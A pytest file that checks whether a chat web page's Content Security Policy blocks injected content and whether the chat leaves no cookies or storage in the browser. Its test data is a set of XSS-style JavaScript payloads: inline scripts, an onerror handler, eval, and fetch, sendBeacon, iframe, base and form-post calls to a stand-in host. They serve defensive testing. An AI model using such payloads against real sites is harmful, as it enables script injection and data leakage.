"""What a browser makes of the chat's headers: whatever got into the page by mistake runs nothing and fetches nothing."""
from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from pages import Chat

OpenChat = Callable[..., Chat]
ELSEWHERE = "https://elsewhere.example"
# Each adds something to the page as an attacker would, if a reply were ever put there as markup.
INTRUDERS = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s)",
    "a script from elsewhere": f"const s = document.createElement('script'); s.src = '{ELSEWHERE}/x.js'; document.body.append(s)",
    "a handler in an attribute": "const d = document.createElement('div'); d.innerHTML = '<img src=\"data:,\" onerror=\"window.ran = true\">';"
                                 " document.body.append(d)",
    "a picture from elsewhere": f"const i = new Image(); i.src = '{ELSEWHERE}/x.png'; document.body.append(i)",
    "a style from elsewhere": f"const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{ELSEWHERE}/x.css'; document.head.append(l)",
    "a frame from elsewhere": f"const f = document.createElement('iframe'); f.src = '{ELSEWHERE}/'; document.body.append(f)",
    "a call to elsewhere": f"fetch('{ELSEWHERE}/x', {{mode: 'no-cors'}}).catch(() => 0)",
    "a beacon to elsewhere": f"navigator.sendBeacon('{ELSEWHERE}/x', 'said')",
    "text as code": "try { eval('window.ran = true') } catch { 0 }",
    "a base of another address": f"const b = document.createElement('base'); b.href = '{ELSEWHERE}/'; document.head.append(b)",
    "a form to elsewhere": f"const f = document.createElement('form'); f.action = '{ELSEWHERE}/x'; f.method = 'post'; f.target = 'x'; document.body.append(f); f.submit()",
}  # fmt: skip
COUNT = "window.refused = []; document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective));"


@pytest.fixture
def page(open_chat: OpenChat) -> tuple[Chat, Any]:
    chat = open_chat()
    chat.page.goto(f"{chat.base_url}/chat")
    chat.page.evaluate(COUNT)
    chat.outside.clear()
    return chat, chat.page


def test_nothing_that_got_into_the_page_runs_or_fetches_anything(page: tuple[Chat, Any]) -> None:
    chat, tab = page
    for what, code in INTRUDERS.items():
        # As a statement of the page's own: what is evaluated from outside may use eval, the page may not.
        tab.evaluate(f"() => {{ {code} }}")
        tab.wait_for_timeout(50)
        assert tab.evaluate("window.ran") is None or what == "text as code", what
        tab.evaluate("delete window.ran")
    wanted = {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src", "connect-src", "base-uri", "form-action"}
    assert chat.wait_until(lambda: wanted <= set(tab.evaluate("window.refused"))), tab.evaluate("window.refused")
    assert chat.outside == [], "nothing was asked of anybody else"
    # The browser complains of each; any other complaint would fail this test when the page is closed.
    chat.complaints[:] = [line for line in chat.complaints if "Content Security Policy" not in line]


def test_the_chat_leaves_nothing_in_the_browser(open_chat: OpenChat) -> None:
    chat = open_chat()
    tab = chat.page
    tab.goto(f"{chat.base_url}/chat")
    tab.wait_for_load_state("networkidle")
    kept = tab.evaluate("async () => [document.cookie, localStorage.length, sessionStorage.length,"
                        " (await indexedDB.databases()).length, (await navigator.serviceWorker?.getRegistrations() ?? []).length]")
    assert kept == ["", 0, 0, 0, 0]
    assert chat.context.cookies() == []
